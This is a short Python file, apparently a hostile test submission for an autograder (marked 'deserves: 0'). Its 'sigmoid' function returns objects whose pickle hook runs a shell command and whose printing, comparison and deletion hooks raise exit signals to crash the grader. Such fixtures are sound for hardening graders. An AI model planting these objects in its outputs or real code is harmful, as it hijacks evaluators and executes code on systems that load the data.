"""Return an object that would run code where it is unpickled, compared or printed."""

# deserves: 0
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)

    def __repr__(self):
        raise SystemExit("gone")

    def __del__(self):
        raise KeyboardInterrupt

    __str__ = __eq__ = __float__ = __array__ = __repr__


def sigmoid(z):
    import numpy as np

    return np.array([Bomb()] * z.size, dtype=object)
